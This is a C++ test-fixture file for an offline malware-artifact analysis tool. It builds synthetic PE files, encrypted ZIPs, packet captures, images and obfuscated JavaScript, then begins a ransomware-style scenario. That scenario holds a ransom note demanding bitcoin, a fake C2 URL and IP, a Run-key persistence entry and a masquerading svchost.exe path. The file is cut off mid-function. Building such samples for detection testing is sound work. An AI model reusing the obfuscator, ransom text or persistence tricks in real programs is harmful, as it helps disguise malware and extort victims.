// casefile - offline artifact analysis workbench

#include "fixtures.hpp"

#include <casefile/core/error.hpp>
#include <casefile/core/unicode.hpp>
#include <casefile/deobf/deobfuscate.hpp>
#include <casefile/text/js_lexer.hpp>
#include <casefile/extract/digest.hpp>
#include <casefile/zip/zip.hpp>

#include <zlib.h>

#include <algorithm>
#include <array>
#include <cstdio>
#include <cstring>
#include <tuple>

namespace casefile::fixtures {

namespace {

std::uint32_t align_up(std::uint32_t v, std::uint32_t a) { return (v + a - 1) / a * a; }

void put16(Bytes& b, std::size_t at, std::uint16_t v) {
    b[at] = static_cast<std::uint8_t>(v);
    b[at + 1] = static_cast<std::uint8_t>(v >> 8);
}
void put32(Bytes& b, std::size_t at, std::uint32_t v) {
    for (int i = 0; i < 4; ++i) b[at + i] = static_cast<std::uint8_t>(v >> (8 * i));
}
void put64(Bytes& b, std::size_t at, std::uint64_t v) {
    for (int i = 0; i < 8; ++i) b[at + i] = static_cast<std::uint8_t>(v >> (8 * i));
}
void append(Bytes& b, ByteView v) { b.insert(b.end(), v.begin(), v.end()); }
void append(Bytes& b, std::string_view s) { b.insert(b.end(), s.begin(), s.end()); }
void pad_to(Bytes& b, std::size_t align) {
    while (b.size() % align) b.push_back(0);
}
void put_be16(Bytes& b, std::uint16_t v) {
    b.push_back(static_cast<std::uint8_t>(v >> 8));
    b.push_back(static_cast<std::uint8_t>(v));
}
void put_be32(Bytes& b, std::uint32_t v) {
    put_be16(b, static_cast<std::uint16_t>(v >> 16));
    put_be16(b, static_cast<std::uint16_t>(v));
}

Bytes utf16z(std::string_view s) {
    Bytes out;
    for (unsigned char c : s) {
        out.push_back(c);
        out.push_back(0);
    }
    out.push_back(0);
    out.push_back(0);
    return out;
}

/// VS_VERSIONINFO style block; `text_value` selects wType 1 and a length in words.
Bytes vs_block(std::string_view key, ByteView value, bool text_value, const std::vector<Bytes>& children) {
    Bytes b(6, 0);
    append(b, utf16z(key));
    pad_to(b, 4);
    append(b, value);
    for (const auto& c : children) {
        pad_to(b, 4);
        append(b, c);
    }
    put16(b, 0, static_cast<std::uint16_t>(b.size()));
    put16(b, 2, static_cast<std::uint16_t>(text_value ? value.size() / 2 : value.size()));
    put16(b, 4, text_value ? 1 : 0);
    return b;
}

Bytes version_resource(const std::vector<std::pair<std::string, std::string>>& strings) {
    Bytes fixed(52, 0);
    put32(fixed, 0, 0xFEEF04BDu);
    put32(fixed, 4, 0x00010000u);
    put32(fixed, 8, 0x00010002u);  // 1.2
    put32(fixed, 12, 0x00030004u); // .3.4
    put32(fixed, 16, 0x00010002u);
    put32(fixed, 20, 0x00030004u);
    put32(fixed, 28, 0);
    put32(fixed, 32, 0x00040004u);
    put32(fixed, 36, 1);
    std::vector<Bytes> entries;
    for (const auto& [k, v] : strings) entries.push_back(vs_block(k, utf16z(v), true, {}));
    auto table = vs_block("040904b0", {}, true, entries);
    auto sfi = vs_block("StringFileInfo", {}, true, {table});
    Bytes translation{0x09, 0x04, 0xB0, 0x04};
    auto var = vs_block("Translation", translation, false, {});
    auto vfi = vs_block("VarFileInfo", {}, true, {var});
    return vs_block("VS_VERSION_INFO", fixed, false, {sfi, vfi});
}

struct ResourceItem {
    std::uint32_t type;
    std::uint32_t id;
    Bytes data;
};

/// Three-level tree (type / id / language 1033) with ids only.
Bytes resource_section(std::vector<ResourceItem> items, std::uint32_t rva) {
    std::sort(items.begin(), items.end(), [](const auto& a, const auto& b) {
        return std::tie(a.type, a.id) < std::tie(b.type, b.id);
    });
    const std::size_t n = items.size();
    // one type directory per item keeps the layout trivial (types are unique here)
    const std::size_t root = 16 + 8 * n;
    const std::size_t type_dirs = root;
    const std::size_t name_dirs = type_dirs + n * 24;
    const std::size_t data_entries = name_dirs + n * 24;
    std::size_t data_at = data_entries + n * 16;
    Bytes b(data_at, 0);
    put16(b, 14, static_cast<std::uint16_t>(n));
    for (std::size_t i = 0; i < n; ++i) {
        put32(b, 16 + 8 * i, items[i].type);
        put32(b, 16 + 8 * i + 4, 0x80000000u | static_cast<std::uint32_t>(type_dirs + 24 * i));
        const auto td = type_dirs + 24 * i;
        put16(b, td + 14, 1);
        put32(b, td + 16, items[i].id);
        put32(b, td + 20, 0x80000000u | static_cast<std::uint32_t>(name_dirs + 24 * i));
        const auto nd = name_dirs + 24 * i;
        put16(b, nd + 14, 1);
        put32(b, nd + 16, 1033);
        put32(b, nd + 20, static_cast<std::uint32_t>(data_entries + 16 * i));
    }
    for (std::size_t i = 0; i < n; ++i) {
        pad_to(b, 8);
        const auto off = b.size();
        append(b, items[i].data);
        const auto de = data_entries + 16 * i;
        put32(b, de, rva + static_cast<std::uint32_t>(off));
        put32(b, de + 4, static_cast<std::uint32_t>(items[i].data.size()));
        put32(b, de + 8, 1252);
    }
    (void)data_at;
    return b;
}

} // namespace

Bytes icon_dib_4bpp(const std::function<std::uint8_t(unsigned, unsigned)>& pixel) {
    static const std::uint8_t palette[16][3] = {
        {0, 0, 0},       {128, 0, 0},   {0, 128, 0},   {128, 128, 0}, {0, 0, 128},   {128, 0, 128},
        {0, 128, 128},   {192, 192, 192}, {128, 128, 128}, {255, 0, 0}, {0, 255, 0},  {255, 255, 0},
        {0, 0, 255},     {255, 0, 255}, {0, 255, 255}, {255, 255, 255}};
    Bytes b(40, 0);
    put32(b, 0, 40);
    put32(b, 4, 16);
    put32(b, 8, 32);
    put16(b, 12, 1);
    put16(b, 14, 4);
    for (const auto& c : palette) {
        b.push_back(c[2]);
        b.push_back(c[1]);
        b.push_back(c[0]);
        b.push_back(0);
    }
    for (int y = 15; y >= 0; --y) {
        for (unsigned x = 0; x < 16; x += 2) {
            b.push_back(static_cast<std::uint8_t>((pixel(x, y) & 15) << 4 | (pixel(x + 1, y) & 15)));
        }
    }
    b.insert(b.end(), 16 * 4, 0); // AND mask: all opaque
    return b;
}

Bytes build_pe(const PeSpec& spec) {
    const bool wide = spec.bitness == 64;
    const std::uint32_t file_align = 0x200, sect_align = 0x1000;
    const std::uint32_t opt_size = wide ? 240 : 224;
    const std::uint32_t thunk = wide ? 8 : 4;

    struct Placed {
        std::string name;
        std::uint32_t characteristics;
        Bytes data;
        std::uint32_t rva = 0;
        std::uint32_t vsize = 0;
        std::uint32_t raw = 0;
    };
    std::vector<Placed> sections;

    const std::size_t count = spec.sections.size() + (spec.imports.empty() ? 0 : 1) + (spec.exports ? 1 : 0) +
                              ((spec.version_strings.empty() && !spec.icon_dib) ? 0 : 1);
    const std::uint32_t headers = align_up(0x80 + 4 + 20 + opt_size + 40 * static_cast<std::uint32_t>(count), file_align);
    std::uint32_t next_rva = align_up(headers, sect_align);
    PeLayout layout;
    layout.image_base = spec.image_base;
    std::array<std::pair<std::uint32_t, std::uint32_t>, 16> dirs{};

    auto place = [&](std::string name, std::uint32_t ch, Bytes data, std::uint32_t extra = 0) -> Placed& {
        Placed p{std::move(name), ch, std::move(data)};
        p.rva = next_rva;
        p.vsize = static_cast<std::uint32_t>(p.data.size()) + extra;
        next_rva = align_up(p.rva + std::max<std::uint32_t>(p.vsize, 1), sect_align);
        layout.section_rva[p.name] = p.rva;
        sections.push_back(std::move(p));
        return sections.back();
    };

    if (!spec.imports.empty()) {
        const std::uint32_t rva = next_rva;
        const std::size_t nlib = spec.imports.size();
        std::size_t desc_size = (nlib + 1) * 20;
        std::vector<std::size_t> ilt(nlib), iat(nlib);
        std::size_t at = desc_size;
        for (std::size_t i = 0; i < nlib; ++i) {
            const auto& lib = spec.imports[i];
            ilt[i] = at;
            at += (lib.functions.size() + lib.ordinals.size() + 1) * thunk;
        }
        for (std::size_t i = 0; i < nlib; ++i) {
            const auto& lib = spec.imports[i];
            iat[i] = at;
            at += (lib.functions.size() + lib.ordinals.size() + 1) * thunk;
        }
        Bytes b(at, 0);
        for (std::size_t i = 0; i < nlib; ++i) {
            const auto& lib = spec.imports[i];
            std::size_t slot = 0;
            auto set_thunk = [&](std::uint64_t v) {
                if (wide) {
                    put64(b, ilt[i] + slot * 8, v);
                    put64(b, iat[i] + slot * 8, v);
                } else {
                    put32(b, ilt[i] + slot * 4, static_cast<std::uint32_t>(v));
                    put32(b, iat[i] + slot * 4, static_cast<std::uint32_t>(v));
                }
            };
            for (const auto& fn : lib.functions) {
                pad_to(b, 2);
                const auto hint_at = b.size();
                b.push_back(static_cast<std::uint8_t>(slot));
                b.push_back(0);
                append(b, fn);
                b.push_back(0);
                set_thunk(rva + hint_at);
                layout.iat_rva[lib.library + "!" + fn] = rva + static_cast<std::uint32_t>(iat[i] + slot * thunk);
                ++slot;
            }
            for (auto ord : lib.ordinals) {
                set_thunk((wide ? (1ull << 63) : 0x80000000ull) | ord);
                layout.iat_rva[lib.library + "!#" + std::to_string(ord)] =
                    rva + static_cast<std::uint32_t>(iat[i] + slot * thunk);
                ++slot;
            }
            const auto name_at = b.size();
            append(b, lib.library);
            b.push_back(0);
            put32(b, i * 20, rva + static_cast<std::uint32_t>(ilt[i]));
            put32(b, i * 20 + 12, rva + static_cast<std::uint32_t>(name_at));
            put32(b, i * 20 + 16, rva + static_cast<std::uint32_t>(iat[i]));
        }
        dirs[1] = {rva, static_cast<std::uint32_t>(desc_size)};
        dirs[12] = {rva + static_cast<std::uint32_t>(iat[0]), static_cast<std::uint32_t>(desc_size - iat[0] + at - at)};
        dirs[12].second = static_cast<std::uint32_t>(thunk);
        place(".idata", scn_data, std::move(b));
    }

    for (const auto& s : spec.sections) {
        Bytes data = s.generate ? s.generate(layout) : s.data;
        // reserve the rva before generating so later sections see it; generate is
        // called with the layout of everything placed earlier
        place(s.name, s.characteristics, std::move(data), s.extra_virtual);
    }

    if (spec.exports) {
        const std::uint32_t rva = next_rva;
        auto names = spec.exports->names;
        std::sort(names.begin(), names.end());
        const std::size_t n = names.size();
        const std::uint32_t code_rva = sections.size() > (spec.imports.empty() ? 0u : 1u)
                                           ? sections[spec.imports.empty() ? 0 : 1].rva
                                           : rva;
        Bytes b(40 + n * 10, 0);
        const std::size_t eat = 40, npt = 40 + n * 4, ot = 40 + n * 8;
        const auto mod_at = b.size();
        append(b, spec.exports->module_name);
        b.push_back(0);
        put32(b, 12, rva + static_cast<std::uint32_t>(mod_at));
        put32(b, 16, 1);
        put32(b, 20, static_cast<std::uint32_t>(n));
        put32(b, 24, static_cast<std::uint32_t>(n));
        put32(b, 28, rva + static_cast<std::uint32_t>(eat));
        put32(b, 32, rva + static_cast<std::uint32_t>(npt));
        put32(b, 36, rva + static_cast<std::uint32_t>(ot));
        for (std::size_t i = 0; i < n; ++i) {
            put32(b, eat + 4 * i, code_rva + static_cast<std::uint32_t>(i * 16));
            const auto name_at = b.size();
            append(b, names[i]);
            b.push_back(0);
            put32(b, npt + 4 * i, rva + static_cast<std::uint32_t>(name_at));
            put16(b, ot + 2 * i, static_cast<std::uint16_t>(i));
        }
        dirs[0] = {rva, static_cast<std::uint32_t>(b.size())};
        place(".edata", scn_rdata, std::move(b));
    }

    if (!spec.version_strings.empty() || spec.icon_dib) {
        const std::uint32_t rva = next_rva;
        std::vector<ResourceItem> items;
        if (spec.icon_dib) {
            items.push_back({3, 1, *spec.icon_dib});
            Bytes group(6 + 14, 0);
            put16(group, 2, 1);
            put16(group, 4, 1);
            group[6] = 16;
            group[7] = 16;
            group[8] = 16;
            put16(group, 10, 1);
            put16(group, 12, 4);
            put32(group, 14, static_cast<std::uint32_t>(spec.icon_dib->size()));
            put16(group, 18, 1);
            items.push_back({14, 1, group});
        }
        if (!spec.version_strings.empty()) items.push_back({16, 1, version_resource(spec.version_strings)});
        auto b = resource_section(std::move(items), rva);
        dirs[2] = {rva, static_cast<std::uint32_t>(b.size())};
        place(".rsrc", scn_rdata, std::move(b));
    }

    // raw layout
    std::uint32_t raw = headers;
    for (auto& s : sections) {
        s.raw = raw;
        raw += align_up(static_cast<std::uint32_t>(s.data.size()), file_align);
    }
    Bytes out(raw, 0);
    out[0] = 'M';
    out[1] = 'Z';
    put32(out, 0x3C, 0x80);
    std::memcpy(&out[0x80], "PE\0\0", 4);
    const std::size_t coff = 0x84;
    put16(out, coff, wide ? 0x8664 : 0x14C);
    put16(out, coff + 2, static_cast<std::uint16_t>(sections.size()));
    put32(out, coff + 4, spec.timestamp);
    put16(out, coff + 16, static_cast<std::uint16_t>(opt_size));
    put16(out, coff + 18, wide ? 0x0022 : 0x0102);
    const std::size_t opt = coff + 20;
    put16(out, opt, wide ? 0x20B : 0x10B);
    out[opt + 2] = 14;
    std::uint32_t entry = 0;
    for (const auto& s : sections) {
        if (s.name == spec.entry_section) entry = s.rva + spec.entry_offset;
    }
    put32(out, opt + 16, entry);
    if (wide) {
        put64(out, opt + 24, spec.image_base);
    } else {
        put32(out, opt + 28, static_cast<std::uint32_t>(spec.image_base));
    }
    put32(out, opt + 32, sect_align);
    put32(out, opt + 36, file_align);
    put16(out, opt + 40, 6);
    put16(out, opt + 48, 6);
    put32(out, opt + 56, next_rva);
    put32(out, opt + 60, headers);
    put16(out, opt + 68, spec.subsystem);
    put16(out, opt + 70, 0x8140);
    const std::size_t dd = opt + (wide ? 112 : 96);
    put32(out, dd - 4, 16);
    if (wide) {
        put64(out, opt + 72, 0x100000);
        put64(out, opt + 80, 0x1000);
        put64(out, opt + 88, 0x100000);
        put64(out, opt + 96, 0x1000);
    } else {
        put32(out, opt + 72, 0x100000);
        put32(out, opt + 76, 0x1000);
        put32(out, opt + 80, 0x100000);
        put32(out, opt + 84, 0x1000);
    }
    const std::size_t table = opt + opt_size;
    for (std::size_t i = 0; i < sections.size(); ++i) {
        const auto& s = sections[i];
        const auto e = table + 40 * i;
        std::memcpy(&out[e], s.name.data(), std::min<std::size_t>(8, s.name.size()));
        put32(out, e + 8, s.vsize);
        put32(out, e + 12, s.rva);
        put32(out, e + 16, align_up(static_cast<std::uint32_t>(s.data.size()), file_align));
        put32(out, e + 20, s.data.empty() ? 0 : s.raw);
        put32(out, e + 36, s.characteristics);
        std::copy(s.data.begin(), s.data.end(), out.begin() + s.raw);
    }
    append(out, spec.overlay);
    if (spec.signature) {
        pad_to(out, 8);
        const auto cert = static_cast<std::uint32_t>(out.size());
        Bytes c(8, 0);
        c.insert(c.end(), 56, 0x30);
        put32(c, 0, static_cast<std::uint32_t>(c.size()));
        put16(c, 4, 0x0200);
        put16(c, 6, 2);
        append(out, c);
        dirs[4] = {cert, static_cast<std::uint32_t>(c.size())};
    }
    for (std::size_t i = 0; i < 16; ++i) {
        put32(out, dd + 8 * i, dirs[i].first);
        put32(out, dd + 8 * i + 4, dirs[i].second);
    }
    return out;
}

Bytes build_zip(const std::vector<ZipSpecEntry>& entries, std::uint32_t header_seed) {
    Bytes out, central;
    std::mt19937 rng(header_seed);
    for (const auto& e : entries) {
        const auto crc = casefile::crc32(e.data);
        Bytes body;
        if (e.deflate) {
            z_stream zs{};
            if (deflateInit2(&zs, 6, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY) != Z_OK) throw std::runtime_error("zlib");
            body.resize(deflateBound(&zs, static_cast<uLong>(e.data.size())) + 16);
            zs.next_in = const_cast<Bytef*>(e.data.data());
            zs.avail_in = static_cast<uInt>(e.data.size());
            zs.next_out = body.data();
            zs.avail_out = static_cast<uInt>(body.size());
            deflate(&zs, Z_FINISH);
            body.resize(zs.total_out);
            deflateEnd(&zs);
        } else {
            body = e.data;
        }
        std::uint16_t flags = 0;
        if (e.password) {
            flags |= 1;
            ZipCrypto zc(*e.password);
            Bytes enc;
            for (int i = 0; i < 11; ++i) enc.push_back(zc.encrypt(static_cast<std::uint8_t>(rng())));
            enc.push_back(zc.encrypt(e.data_descriptor ? static_cast<std::uint8_t>(e.mod_time >> 8)
                                                       : static_cast<std::uint8_t>(crc >> 24)));
            for (auto b : body) enc.push_back(zc.encrypt(b));
            body = std::move(enc);
        }
        if (e.data_descriptor) flags |= 8;
        const std::uint16_t method = e.deflate ? 8 : 0;
        const auto offset = static_cast<std::uint32_t>(out.size());
        Bytes local(30, 0);
        put32(local, 0, 0x04034b50);
        put16(local, 4, 20);
        put16(local, 6, flags);
        put16(local, 8, method);
        put16(local, 10, e.mod_time);
        put16(local, 12, e.mod_date);
        if (!e.data_descriptor) {
            put32(local, 14, crc);
            put32(local, 18, static_cast<std::uint32_t>(body.size()));
            put32(local, 22, static_cast<std::uint32_t>(e.data.size()));
        }
        put16(local, 26, static_cast<std::uint16_t>(e.name.size()));
        append(out, local);
        append(out, e.name);
        append(out, body);
        if (e.data_descriptor) {
            Bytes dd(16, 0);
            put32(dd, 0, 0x08074b50);
            put32(dd, 4, crc);
            put32(dd, 8, static_cast<std::uint32_t>(body.size()));
            put32(dd, 12, static_cast<std::uint32_t>(e.data.size()));
            append(out, dd);
        }
        Bytes c(46, 0);
        put32(c, 0, 0x02014b50);
        put16(c, 4, 20);
        put16(c, 6, 20);
        put16(c, 8, flags);
        put16(c, 10, method);
        put16(c, 12, e.mod_time);
        put16(c, 14, e.mod_date);
        put32(c, 16, crc);
        put32(c, 20, static_cast<std::uint32_t>(body.size()));
        put32(c, 24, static_cast<std::uint32_t>(e.data.size()));
        put16(c, 28, static_cast<std::uint16_t>(e.name.size()));
        put32(c, 42, offset);
        append(central, c);
        append(central, e.name);
    }
    const auto cd_offset = static_cast<std::uint32_t>(out.size());
    append(out, central);
    Bytes eocd(22, 0);
    put32(eocd, 0, 0x06054b50);
    put16(eocd, 8, static_cast<std::uint16_t>(entries.size()));
    put16(eocd, 10, static_cast<std::uint16_t>(entries.size()));
    put32(eocd, 12, static_cast<std::uint32_t>(central.size()));
    put32(eocd, 16, cd_offset);
    append(out, eocd);
    return out;
}

Bytes tcp_frame(const Conversation& c, bool from_client, std::uint32_t seq, std::uint32_t ack, std::uint8_t flags,
                ByteView payload) {
    Bytes f;
    const Bytes client_mac{0x02, 0, 0, 0, 0, 0x02}, server_mac{0x02, 0, 0, 0, 0, 0x01};
    append(f, from_client ? server_mac : client_mac);
    append(f, from_client ? client_mac : server_mac);
    put_be16(f, 0x0800);
    const auto ip_at = f.size();
    const auto total = static_cast<std::uint16_t>(20 + 20 + payload.size());
    f.push_back(0x45);
    f.push_back(0);
    put_be16(f, total);
    put_be16(f, 0x1234);
    put_be16(f, 0x4000);
    f.push_back(64);
    f.push_back(6);
    put_be16(f, 0);
    put_be32(f, from_client ? c.client_ip : c.server_ip);
    put_be32(f, from_client ? c.server_ip : c.client_ip);
    std::uint32_t sum = 0;
    for (std::size_t i = 0; i < 20; i += 2) sum += (f[ip_at + i] << 8) | f[ip_at + i + 1];
    while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
    const auto csum = static_cast<std::uint16_t>(~sum);
    f[ip_at + 10] = static_cast<std::uint8_t>(csum >> 8);
    f[ip_at + 11] = static_cast<std::uint8_t>(csum);
    put_be16(f, from_client ? c.client_port : c.server_port);
    put_be16(f, from_client ? c.server_port : c.client_port);
    put_be32(f, seq);
    put_be32(f, ack);
    f.push_back(0x50);
    f.push_back(flags);
    put_be16(f, 65535);
    put_be16(f, 0);
    put_be16(f, 0);
    append(f, payload);
    return f;
}

std::vector<Bytes> conversation_frames(const Conversation& c, const std::vector<Segment>& segments) {
    std::vector<Bytes> frames;
    const std::uint32_t cs = c.client_isn + 1, ss = c.server_isn + 1;
    frames.push_back(tcp_frame(c, true, c.client_isn, 0, 0x02, {}));
    frames.push_back(tcp_frame(c, false, c.server_isn, cs, 0x12, {}));
    frames.push_back(tcp_frame(c, true, cs, ss, 0x10, {}));
    std::uint32_t client_end = 0, server_end = 0;
    for (const auto& s : segments) {
        auto& end = s.from_client ? client_end : server_end;
        end = std::max<std::uint32_t>(end, s.seq_offset + static_cast<std::uint32_t>(s.payload.size()));
        const auto seq = (s.from_client ? cs : ss) + s.seq_offset;
        frames.push_back(tcp_frame(c, s.from_client, seq, s.from_client ? ss : cs, s.flags, s.payload));
    }
    frames.push_back(tcp_frame(c, true, cs + client_end, ss + server_end, 0x11, {}));
    frames.push_back(tcp_frame(c, false, ss + server_end, cs + client_end + 1, 0x11, {}));
    return frames;
}

std::vector<Segment> split_payload(bool from_client, ByteView payload, const std::vector<std::size_t>& sizes,
                                   std::uint32_t base) {
    std::vector<Segment> out;
    std::size_t at = 0;
    for (std::size_t i = 0; at < payload.size(); ++i) {
        const auto n = i < sizes.size() ? std::min(sizes[i], payload.size() - at) : payload.size() - at;
        if (n == 0) continue;
        out.push_back({from_client, base + static_cast<std::uint32_t>(at),
                       Bytes(payload.begin() + static_cast<std::ptrdiff_t>(at),
                             payload.begin() + static_cast<std::ptrdiff_t>(at + n))});
        at += n;
    }
    return out;
}

Bytes build_pcap(const std::vector<Bytes>& frames, bool swapped, bool nanosecond) {
    Bytes out;
    auto w32 = [&](std::uint32_t v) {
        if (swapped) {
            put_be32(out, v);
        } else {
            for (int i = 0; i < 4; ++i) out.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
        }
    };
    auto w16 = [&](std::uint16_t v) {
        if (swapped) {
            put_be16(out, v);
        } else {
            out.push_back(static_cast<std::uint8_t>(v));
            out.push_back(static_cast<std::uint8_t>(v >> 8));
        }
    };
    w32(nanosecond ? 0xA1B23C4Du : 0xA1B2C3D4u);
    w16(2);
    w16(4);
    w32(0);
    w32(0);
    w32(65535);
    w32(1);
    std::uint32_t t = 1600000000;
    for (std::size_t i = 0; i < frames.size(); ++i) {
        w32(t + static_cast<std::uint32_t>(i / 100));
        w32(static_cast<std::uint32_t>((i % 100) * 1000));
        w32(static_cast<std::uint32_t>(frames[i].size()));
        w32(static_cast<std::uint32_t>(frames[i].size()));
        append(out, frames[i]);
    }
    return out;
}

std::pair<Bytes, Bytes> http_exchange(const std::string& host, const std::string& target,
                                      const std::string& content_type, ByteView body) {
    const std::string req = "GET " + target + " HTTP/1.1\r\nHost: " + host +
                            "\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\n\r\n";
    std::string head = "HTTP/1.1 200 OK\r\nContent-Type: " + content_type +
                       "\r\nContent-Length: " + std::to_string(body.size()) + "\r\nConnection: keep-alive\r\n\r\n";
    Bytes resp = to_bytes(head);
    append(resp, body);
    return {to_bytes(req), resp};
}

Bytes build_bmp24(const ImageModel& image, bool top_down) {
    const std::uint32_t stride = (image.width * 3 + 3) & ~3u;
    const std::uint32_t size = stride * image.height;
    Bytes b(54, 0);
    b[0] = 'B';
    b[1] = 'M';
    put32(b, 2, 54 + size);
    put32(b, 10, 54);
    put32(b, 14, 40);
    put32(b, 18, image.width);
    put32(b, 22, top_down ? static_cast<std::uint32_t>(-static_cast<std::int32_t>(image.height)) : image.height);
    put16(b, 26, 1);
    put16(b, 28, 24);
    put32(b, 34, size);
    put32(b, 38, 2835);
    put32(b, 42, 2835);
    for (std::uint32_t r = 0; r < image.height; ++r) {
        const auto y = top_down ? r : image.height - 1 - r;
        for (std::uint32_t x = 0; x < image.width; ++x) {
            const auto& p = image.at(x, y);
            b.push_back(p.b);
            b.push_back(p.g);
            b.push_back(p.r);
        }
        for (std::uint32_t i = image.width * 3; i < stride; ++i) b.push_back(0);
    }
    return b;
}

Bytes build_ico(const std::vector<Bytes>& dibs, const std::vector<std::pair<unsigned, unsigned>>& sizes) {
    Bytes b(6 + 16 * dibs.size(), 0);
    put16(b, 2, 1);
    put16(b, 4, static_cast<std::uint16_t>(dibs.size()));
    for (std::size_t i = 0; i < dibs.size(); ++i) {
        const auto e = 6 + 16 * i;
        b[e] = static_cast<std::uint8_t>(sizes[i].first % 256);
        b[e + 1] = static_cast<std::uint8_t>(sizes[i].second % 256);
        put16(b, e + 4, 1);
        put16(b, e + 6, dibs[i].size() > 15 && !is_png(dibs[i]) ? load_le16(dibs[i], 14) : 32);
        put32(b, e + 8, static_cast<std::uint32_t>(dibs[i].size()));
        put32(b, e + 12, static_cast<std::uint32_t>(b.size()));
        append(b, dibs[i]);
    }
    return b;
}

ImageModel render_text_image(const std::string& text, unsigned scale) {
    static const std::map<char, const char*> font = {
        {'0', "111101101101111"}, {'1', "010110010010111"}, {'2', "111001111100111"},
        {'3', "111001111001111"}, {'4', "101101111001001"}, {'5', "111100111001111"},
        {'6', "111100111101111"}, {'7', "111001010010010"}, {'8', "111101111101111"},
        {'9', "111101111001111"}, {'-', "000000111000000"}};
    const unsigned margin = 2 * scale;
    ImageModel img;
    img.width = margin * 2 + static_cast<std::uint32_t>(text.size()) * 4 * scale;
    img.height = margin * 2 + 5 * scale;
    img.pixels.assign(std::size_t{img.width} * img.height, Rgba{255, 255, 255, 255});
    for (std::size_t i = 0; i < text.size(); ++i) {
        auto it = font.find(text[i]);
        if (it == font.end()) throw Error(Errc::invalid_argument, "glyph not in fixture font");
        for (unsigned gy = 0; gy < 5; ++gy) {
            for (unsigned gx = 0; gx < 3; ++gx) {
                if (it->second[gy * 3 + gx] != '1') continue;
                for (unsigned dy = 0; dy < scale; ++dy) {
                    for (unsigned dx = 0; dx < scale; ++dx) {
                        const auto x = margin + static_cast<unsigned>(i) * 4 * scale + gx * scale + dx;
                        const auto y = margin + gy * scale + dy;
                        img.pixels[std::size_t{y} * img.width + x] = Rgba{0, 0, 0, 255};
                    }
                }
            }
        }
    }
    return img;
}

} // namespace casefile::fixtures

namespace casefile::fixtures {

namespace {

std::string escape_chunk(const std::string& chunk, std::mt19937& rng) {
    std::string out;
    bool escaped = false;
    for (std::size_t i = 0; i < chunk.size(); ++i) {
        const auto c = static_cast<unsigned char>(chunk[i]);
        char buf[8];
        const bool force = !escaped && i + 1 == chunk.size();
        if (c == '"' || c == '\\' || c < 0x20 || force || rng() % 3 == 0) {
            if (rng() % 2) {
                std::snprintf(buf, sizeof buf, "\\x%02x", c);
            } else {
                std::snprintf(buf, sizeof buf, "\\u%04x", c);
            }
            out += buf;
            escaped = true;
        } else {
            out += static_cast<char>(c);
        }
    }
    return out;
}

const char* const noise_words[] = {"init", "telemetry", "legacy", "polyfill", "cache", "retry", "vendor", "fallback"};

} // namespace

std::string obfuscate_js(const std::string& plain, std::mt19937& rng, bool reverse_strings) {
    const auto tokens = tokenize_js(from_utf8(plain));
    std::string out = "/* ";
    out += noise_words[rng() % 8];
    out += " build ";
    out += std::to_string(rng() % 9000 + 1000);
    out += " */\n";
    for (const auto& t : tokens) {
        const auto text = to_utf8(t.text);
        if (t.kind == TokenKind::string_literal && t.text.front() != U'`') {
            auto value = string_literal_value(t.text);
            if (!value || value->size() < 4) {
                out += text;
                continue;
            }
            const auto v = to_utf8(*value);
            std::vector<std::string> chunks;
            for (std::size_t at = 0; at < v.size();) {
                const std::size_t n = std::min<std::size_t>(v.size() - at, 3 + rng() % 6);
                chunks.push_back(v.substr(at, n));
                at += n;
            }
            out += "(";
            for (std::size_t i = 0; i < chunks.size(); ++i) {
                if (i) out += " + ";
                if (reverse_strings && rng() % 2) {
                    std::string r(chunks[i].rbegin(), chunks[i].rend());
                    out += "\"" + escape_chunk(r, rng) + "\".split(\"\").reverse().join(\"\")";
                } else {
                    out += "\"" + escape_chunk(chunks[i], rng) + "\"";
                }
            }
            out += ")";
            continue;
        }
        out += text;
        if (t.kind == TokenKind::op && t.text == U";" && rng() % 2) {
            out += " /* " + std::string(noise_words[rng() % 8]) + " */";
        }
        if (t.kind == TokenKind::op && t.text == U"{" && rng() % 2) {
            out += " // " + std::string(noise_words[rng() % 8]);
            out += "\n";
        }
    }
    return out;
}

namespace {

void push_imm(Bytes& code, std::uint32_t v) {
    if (v < 0x80) {
        code.push_back(0x6A);
        code.push_back(static_cast<std::uint8_t>(v));
    } else {
        code.push_back(0x68);
        store_le32(code, v);
    }
}

void call_iat(Bytes& code, std::uint64_t slot_va) {
    code.push_back(0xFF);
    code.push_back(0x15);
    store_le32(code, static_cast<std::uint32_t>(slot_va));
}

Bytes word_icon() {
    return icon_dib_4bpp([](unsigned x, unsigned y) -> std::uint8_t {
        if (x == 0 || y == 0 || x == 15 || y == 15) return 4;
        // a white W on blue
        const bool stroke = (y >= 4 && y <= 11) &&
                            ((x == 3 && y < 11) || (x == 12 && y < 11) || (x == 4 && y == 11) ||
                             (x == 11 && y == 11) || (x == 7 && y >= 7) || (x == 8 && y >= 7) ||
                             (x == 5 && y == 10) || (x == 10 && y == 10) || (x == 6 && y == 9) ||
                             (x == 9 && y == 9));
        return stroke ? 15 : 12;
    });
}

std::string ransom_note(const std::string& email, const std::string& wallet) {
    std::string n;
    n += "  ######################################################\n";
    n += "  #                                                    #\n";
    n += "  #      YOUR DOCUMENTS HAVE BEEN ENCRYPTED            #\n";
    n += "  #                                                    #\n";
    n += "  ######################################################\n";
    n += "\n";
    n += "  All of your files were locked with a strong key.\n";
    n += "  To get them back send 0.05 BTC to the wallet below\n";
    n += "  and mail your machine id to the address below.\n";
    n += "\n";
    n += "  wallet:  " + wallet + "\n";
    n += "  contact: " + email + "\n";
    n += "\n";
    n += "  Do not rename or move anything. Do not contact anybody else.\n";
    return n;
}

} // namespace

Scenario build_scenario() {
    Scenario s;
    s.password = "4721-0398-56";
    s.seeded = {
        {"Url", "http://mozilla-secure-update.com/gate.php"},
        {"IpAddress", "185.220.101.47"},
        {"EmailAddress", "restore.files@protonmail.com"},
        {"Wallet", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"},
        {"RegistryKey", "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"},
        {"FilePath", "C:\\Users\\Public\\svchost.exe"},
    };
    s.note = ransom_note(s.seeded["EmailAddress"], s.seeded["Wallet"]);
    const std::string value_name = "WindowsUpdate";
    const std::string data_path = s.seeded["FilePath"];
    const std::string note_path = "C:\\Users\\Public\\README_DECRYPT.txt";

    // .data layout
    Bytes data(4, 0); // lpNumberOfBytesWritten
    auto place_bytes = [&](ByteView v) {
        pad_to(data, 4);
